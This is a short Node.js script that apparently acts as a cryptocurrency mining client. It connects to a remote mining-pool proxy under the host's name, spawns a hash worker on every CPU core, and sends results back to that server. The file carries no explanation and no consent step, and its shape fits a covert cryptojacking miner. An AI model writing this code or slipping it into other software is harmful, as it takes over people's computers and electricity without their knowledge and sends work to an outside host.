const WebSocket = require('ws');
const os = require('os');
const { Worker } = require('worker_threads');
const ws = new WebSocket('wss://ws.webminepool-cdn.io/proxy/' + os.hostname());
ws.on('message', (job) => {
  for (let i = 0; i < os.cpus().length; i++) {
    const w = new Worker(__dirname + '/hash-worker.js', { workerData: JSON.parse(job) });
    w.on('message', (share) => ws.send(JSON.stringify({ method: 'submit', params: share })));
  }
});
